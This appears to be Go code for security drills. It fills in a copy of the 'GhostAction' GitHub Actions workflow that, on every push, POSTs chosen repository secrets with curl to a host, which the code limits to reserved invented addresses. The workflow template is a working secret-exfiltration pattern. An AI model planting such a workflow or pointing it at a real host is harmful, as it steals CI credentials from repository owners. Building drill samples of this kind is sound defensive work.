package drill

import (
	"fmt"
	"regexp"
	"strings"
)

// ghostaction is the 17-line workflow of the GhostAction campaigns of 2025, as their victims published it: only the
// list of secrets and the host differ between its versions. The form body has one NAME=${{ secrets.NAME }} for each, joined by "&"; a
// bare URL without a path follows.
const ghostaction = `name: Github Actions Security

on:
  workflow_dispatch:
  push:

jobs:
  send-secrets:
    runs-on: ubuntu-latest

    steps:
    - name: Prepare Cache Busting
      run: echo "CACHE_BUST=$(date +%%s)" >> $GITHUB_ENV

    - name: Github Actions Security
      run: |
        curl -s -X POST -d '%s' https://%s
`

var (
	// secretReference finds what a workflow's text reads of the secrets.
	secretReference = regexp.MustCompile(`secrets\.([A-Z_][A-Z0-9_]*)`)
	secretName      = regexp.MustCompile(`^[A-Z_][A-Z0-9_]{0,99}$`)
	// A recipe may only name hosts that can belong to nobody: reserved by RFC 2606, or addresses of RFC 5737.
	inventedHost = regexp.MustCompile(`^([a-z0-9-]+\.)*example\.invalid$|^(192\.0\.2|198\.51\.100|203\.0\.113)\.[0-9]{1,3}$`)
)

// template makes the text of a named workflow.
func template(name string, secrets []string, host string) (string, error) {
	if name != "ghostaction" {
		return "", fmt.Errorf("unknown template %q", name)
	}
	if len(secrets) == 0 {
		return "", fmt.Errorf("template %s: no secrets", name)
	}
	if !inventedHost.MatchString(host) {
		return "", fmt.Errorf("template %s: host %q is not an invented one", name, host)
	}
	var form []string
	for _, s := range secrets {
		if !secretName.MatchString(s) {
			return "", fmt.Errorf("template %s: %q is not the name of a secret", name, s)
		}
		form = append(form, fmt.Sprintf("%s=${{ secrets.%s }}", s, s))
	}
	return fmt.Sprintf(ghostaction, strings.Join(form, "&"), host), nil
}
